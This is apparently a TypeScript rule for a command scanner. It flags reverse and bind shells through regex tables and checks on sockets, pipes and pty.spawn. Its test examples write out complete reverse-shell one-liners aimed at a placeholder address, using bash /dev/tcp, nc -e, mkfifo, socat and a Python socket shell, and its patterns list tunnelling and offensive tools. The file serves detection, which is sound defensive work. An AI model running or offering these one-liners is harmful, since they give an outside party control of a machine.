/** Finds reverse and bind shells: commands that hand a shell to somebody on the network. */
import { isShell, nameOf } from '../../shell/index.ts';
import { type Finding, lookUp, type Rule, type Table } from '../rule.ts';
import type { Use } from '../use.ts';

const table: Table = [
  [
    /^(?:nc|ncat|netcat|nc\.\w+|busybox nc)(?= ).* (?:-\w*[ec]|--exec|--sh-exec|-c)(?: |=)/,
    'critical',
    'connects a program to the network',
  ],
  [/^socat .*(?:exec|system|shell):/i, 'critical', 'connects a program to the network'],
  [
    /^(?:pwncat|chisel|ngrok|frpc|revsocks|ligolo|sshuttle|bore|gs-netcat|msfconsole|msfvenom)\b/,
    'high',
    'opens a way into the machine',
  ],
  [
    /^ssh (?:(?:-[46AaCfGgKkMNnqsTtVvXxYy]+|-[BbcDEeFIiJLlmOopQSWw] ?\S+) )*(?:[^-\s]\S* (?:(?:-[46AaCfGgKkMNnqsTtVvXxYy]+|-[BbcDEeFIiJLlmOopQSWw] ?\S+) )*)?-\w*R/,
    'high',
    'opens a way into the machine',
  ],
  [/^(?:ttyd|shellinaboxd|gotty|wetty|tmate|teleconsole)\b/, 'critical', 'hands a shell to the network'],
  [/^telnetd\b|^in\.telnetd|^rshd\b/, 'critical', 'hands a shell to the network'],
];

const socket = /^\/dev\/(?:tcp|udp)\//;
const isSocket = (text: string): boolean => socket.test(text);
const networkTool = /^(?:nc|ncat|netcat|telnet|socat|openssl|curl|wget|gawk|awk)$/;

const saysNothing = /^(?:|:|true|echo)$/;
const takesCode = /^(?:eval|source|\.|exec|xargs|\uFFFC.*)$/;

/** Only opens the connection; nothing but the shells that it stands in could take orders from there. */
function checksPort(use: Use, operator: string): boolean {
  const around = new Set(use.command.inside.map((each) => each.command));
  const others = use.all.filter((each) => !around.has(each)).map((each) => nameOf(each.program));
  return (
    saysNothing.test(use.name) &&
    /^[<>]$/.test(operator) &&
    !others.some((each) => isShell(each) || takesCode.test(each))
  );
}

function checkSockets(use: Use): readonly (Finding | undefined)[] {
  return use.command.redirections
    .filter((each) => isSocket(each.target.shown))
    .map(({ operator, target }) => {
      if (checksPort(use, operator)) return undefined;
      const shell = isShell(use.name) || use.name === 'exec' || use.all.some((each) => isShell(nameOf(each.program)));
      if (shell || operator === '<>' || operator === '>&' || operator === '&>')
        return { level: 'critical', message: 'connects a shell to the network', place: target.place };
      return { level: 'high', message: 'sends what it prints to the network', place: target.place };
    });
}

/** A shell and a network tool in one pipeline, back to back through a named pipe or a coprocess. */
function checkPipe(use: Use): Finding | undefined {
  if (!isShell(use.name)) return undefined;
  const members = use.command.pipeline.members.map((each) => nameOf(each.program));
  const after = use.all.filter(
    (each) => each.place.start >= use.command.place.end && networkTool.test(nameOf(each.program)),
  );
  const next = use.all.some(
    (each) =>
      each.index === use.command.index + 1 &&
      each.pipeline.length > 1 &&
      networkTool.test(nameOf(each.program)) &&
      each.place.start >= use.command.place.end,
  );
  const fifo = use.all.some((each) => /^(mkfifo|mknod)$/.test(nameOf(each.program)));
  const talks = members.some((each) => /^(?:nc|ncat|netcat|telnet|socat)$/.test(each)) && use.has('i');
  const looped = fifo && (after.length > 0 || members.some((each) => networkTool.test(each)));
  return (next && use.command.pipeline.length > 1 && use.operands.length === 0) || looped || talks
    ? { level: 'critical', message: 'connects a shell to the network' }
    : undefined;
}

/** `python -c 'pty.spawn(…)' | nc host port` */
const spawns = (use: Use): Finding | undefined =>
  /pty\.spawn/.test(use.args.join(' ')) && use.all.some((each) => networkTool.test(nameOf(each.program)))
    ? { level: 'critical', message: 'connects a shell to the network' }
    : undefined;

const dynamic = (use: Use): Finding | undefined =>
  (use.name === 'socat' && /\b(?:exec|system|shell):/i.test(use.args.join(' '))) ||
  (/\/inet\/(?:tcp|udp)\//.test(use.args.join(' ')) && /awk$/.test(use.name))
    ? { level: 'critical', message: 'connects a program to the network' }
    : undefined;

export const openRemoteShell: Rule = {
  id: 'open-remote-shell',
  why: 'Whoever is at the other end does what he likes, with the rights of whoever started it.',
  examples: {
    match: [
      ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'critical'],
      ['nc -e /bin/sh 192.0.2.1 4444', 'critical'],
      ['ssh -o ServerAliveInterval=30 -fNR 2222:localhost:22 user@192.0.2.1', 'high'],
      ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f', 'critical'],
      ['socat TCP:192.0.2.1:4444 EXEC:/bin/bash', 'critical'],
      ["bash -c '{ sh; } < /dev/tcp/192.0.2.1/4444'", 'critical'],
      [
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
        'critical',
      ],
    ],
    pass: [
      'nc -z host 80',
      'openssl s_client -connect x:443',
      'socat - TCP:localhost:80',
      'ssh host uptime',
      'ssh -p 22 host ls -R /srv',
      'echo > /dev/tcp/localhost/80',
      "timeout 3 bash -c '</dev/tcp/127.0.0.1/8080'",
    ],
  },
  check: (use) => [...lookUp(use, table), ...checkSockets(use), checkPipe(use), spawns(use), dynamic(use)],
};
